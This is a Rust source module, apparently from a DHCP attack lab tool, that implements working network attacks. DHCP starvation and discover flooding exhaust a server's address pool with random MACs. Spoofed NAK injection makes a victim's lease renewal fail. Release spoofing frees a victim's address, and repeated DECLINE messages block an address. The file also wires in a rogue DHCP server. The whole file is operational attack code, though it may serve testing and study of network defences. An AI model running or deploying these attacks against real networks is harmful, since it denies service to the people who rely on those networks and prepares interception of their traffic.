//! DHCP attack implementations
//!
//! This module implements the fire-and-forget DHCP attacks:
//! - Starvation / Flood - DISCOVER from a fresh random client every iteration
//! - NAK injection - NAKs spoofed from the legitimate server towards a victim
//! - Release spoofing - RELEASE of a victim's lease from random clients
//! - Decline - DECLINE of one address from random clients
//!
//! The rogue responder lives in [`super::rogue`].

use super::config::AttackConfig;
use super::frame::{decline_frame, discover_frame, nak_frame, release_frame};
use super::rogue::RogueServerAttack;
use async_trait::async_trait;
use dhcplab_core::{Attack, AttackContext, AttackKind, MacAddr, Result};
use rand::Rng;
use std::net::Ipv4Addr;
use std::sync::Arc;
use tracing::{debug, warn};

fn random_xid() -> u32 {
    rand::thread_rng().gen()
}

/// Hardware address to use as the Ethernet source of server-origin frames
///
/// Falls back to a random address when the interface cannot report one.
pub(crate) async fn server_hardware_address(ctx: &AttackContext) -> MacAddr {
    match ctx.transport.hardware_address(&ctx.interface).await {
        Ok(mac) => mac,
        Err(e) => {
            let mac = MacAddr::random();
            warn!(
                attack = %ctx.kind,
                interface = %ctx.interface,
                error = %e,
                fallback = %mac,
                "Interface hardware address unavailable"
            );
            mac
        }
    }
}

/// Log the missing target and give up
fn exit_without_target(ctx: &AttackContext) -> Result<()> {
    debug!(attack = %ctx.kind, "No target given, exiting");
    ctx.log_system(format!(
        "{} attack requires a target IP address; stopped without sending",
        ctx.kind
    ));
    Ok(())
}

/// Send one frame or count the build failure
async fn emit(ctx: &AttackContext, frame: Result<Vec<u8>>, actor: MacAddr, what: &str) {
    match frame {
        Ok(frame) => {
            ctx.send_frame(&frame, actor, what).await;
        }
        Err(e) => ctx.record_error(&format!("Failed to build {}: {}", what, e)),
    }
}

/// DHCP Starvation and Flood (pool exhaustion)
///
/// Every iteration sends a DISCOVER from a new random hardware address, so
/// the server reserves a fresh lease for each one. Flood is the same loop
/// without a delay.
#[derive(Debug, Clone)]
pub struct DiscoverAttack {
    kind: AttackKind,
}

impl DiscoverAttack {
    pub fn starvation() -> Self {
        Self {
            kind: AttackKind::Starvation,
        }
    }

    pub fn flood() -> Self {
        Self {
            kind: AttackKind::Flood,
        }
    }
}

#[async_trait]
impl Attack for DiscoverAttack {
    async fn execute(&self, ctx: AttackContext) -> Result<()> {
        let interval = self.kind.interval();

        while ctx.is_running() {
            let mac = MacAddr::random();
            emit(&ctx, discover_frame(mac, random_xid()), mac, "DISCOVER").await;
            ctx.pause(interval).await;
        }

        Ok(())
    }

    fn kind(&self) -> AttackKind {
        self.kind
    }

    fn name(&self) -> &str {
        match self.kind {
            AttackKind::Flood => "DHCP Discover Flood",
            _ => "DHCP Starvation",
        }
    }
}

/// DHCP NAK injection
///
/// Repeatedly NAKs the victim in the name of the legitimate server so its
/// lease renewal fails.
#[derive(Debug, Clone)]
pub struct NakAttack {
    pub target: Option<Ipv4Addr>,
    pub server_id: Ipv4Addr,
}

#[async_trait]
impl Attack for NakAttack {
    async fn execute(&self, ctx: AttackContext) -> Result<()> {
        let Some(target) = self.target else {
            return exit_without_target(&ctx);
        };
        let interval = AttackKind::Nak.interval();
        let server_mac = server_hardware_address(&ctx).await;

        while ctx.is_running() {
            let frame = nak_frame(server_mac, random_xid(), self.server_id, target);
            emit(&ctx, frame, server_mac, &format!("NAK to {}", target)).await;
            ctx.pause(interval).await;
        }

        Ok(())
    }

    fn kind(&self) -> AttackKind {
        AttackKind::Nak
    }

    fn name(&self) -> &str {
        "DHCP NAK Injection"
    }
}

/// DHCP Release spoofing
///
/// Random clients claim the victim's address and release it, so the server
/// considers it free again.
#[derive(Debug, Clone)]
pub struct ReleaseAttack {
    pub target: Option<Ipv4Addr>,
    pub server_id: Ipv4Addr,
}

#[async_trait]
impl Attack for ReleaseAttack {
    async fn execute(&self, ctx: AttackContext) -> Result<()> {
        let Some(target) = self.target else {
            return exit_without_target(&ctx);
        };
        let interval = AttackKind::Release.interval();

        while ctx.is_running() {
            let mac = MacAddr::random();
            let frame = release_frame(mac, random_xid(), target, self.server_id);
            emit(&ctx, frame, mac, &format!("RELEASE of {}", target)).await;
            ctx.pause(interval).await;
        }

        Ok(())
    }

    fn kind(&self) -> AttackKind {
        AttackKind::Release
    }

    fn name(&self) -> &str {
        "DHCP Release Spoofing"
    }
}

/// DHCP Decline
///
/// Random clients keep reporting one address as already in use.
#[derive(Debug, Clone)]
pub struct DeclineAttack {
    pub address: Ipv4Addr,
}

#[async_trait]
impl Attack for DeclineAttack {
    async fn execute(&self, ctx: AttackContext) -> Result<()> {
        let interval = AttackKind::Decline.interval();

        while ctx.is_running() {
            let mac = MacAddr::random();
            let frame = decline_frame(mac, random_xid(), self.address);
            emit(&ctx, frame, mac, &format!("DECLINE of {}", self.address)).await;
            ctx.pause(interval).await;
        }

        Ok(())
    }

    fn kind(&self) -> AttackKind {
        AttackKind::Decline
    }

    fn name(&self) -> &str {
        "DHCP Decline"
    }
}

/// Instantiate the attack a config describes
pub fn build_attack(config: &AttackConfig) -> Arc<dyn Attack> {
    match config {
        AttackConfig::Starvation => Arc::new(DiscoverAttack::starvation()),
        AttackConfig::Flood => Arc::new(DiscoverAttack::flood()),
        AttackConfig::Nak { target, server_id } => Arc::new(NakAttack {
            target: *target,
            server_id: *server_id,
        }),
        AttackConfig::Release { target, server_id } => Arc::new(ReleaseAttack {
            target: *target,
            server_id: *server_id,
        }),
        AttackConfig::Decline { address } => Arc::new(DeclineAttack { address: *address }),
        AttackConfig::RogueServer(rogue) => Arc::new(RogueServerAttack::new(rogue.clone())),
    }
}
